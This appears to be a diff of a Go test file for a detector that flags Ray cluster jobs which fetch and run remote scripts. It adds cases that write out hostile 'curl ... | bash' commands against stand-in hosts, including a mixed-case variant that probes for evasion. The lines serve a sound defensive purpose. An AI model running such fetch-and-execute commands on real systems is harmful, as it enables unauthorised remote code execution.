@@ -85,6 +85,17 @@ func TestPayloads(t *testing.T) {
 			w.job(attacker, node, "curl -s http://files.example/x.sh | bash", ray.Executed)
 			w.get(node, web, 80, "files.example", "/x.sh", "curl/7.88.1", "text/plain", script, 200)
 		}, "high", ruleScript, "job that names the place"},
+		{"named in capitals", func(w *net) {
+			w.job(attacker, node, "curl -s HTTP://FILES.Example/x.sh | bash", ray.Executed)
+			w.get(node, web, 80, "files.example", "/x.sh", "curl/7.88.1", "text/plain", script, 200)
+		}, "high", ruleScript, "job that names the place"},
+		{"a job that comes when the file has begun", func(w *net) {
+			now := w.now
+			w.now = now.Add(time.Minute)
+			w.job(attacker, node, "curl -s http://vendor.example/setup.exe", ray.Executed)
+			w.now = now
+			w.get(node, web, 80, "vendor.example", "/setup.exe", browser, "application/x-msdownload", exe, 200)
+		}, "", "", ""},
 		{"named, and fetched by another node of the cluster", func(w *net) {
 			w.job(attacker, node, "curl -s http://files.example/x.sh | bash", ray.Executed)
 			w.get(worker, web, 80, "files.example", "/x.sh", browser, "text/plain", script, 200)
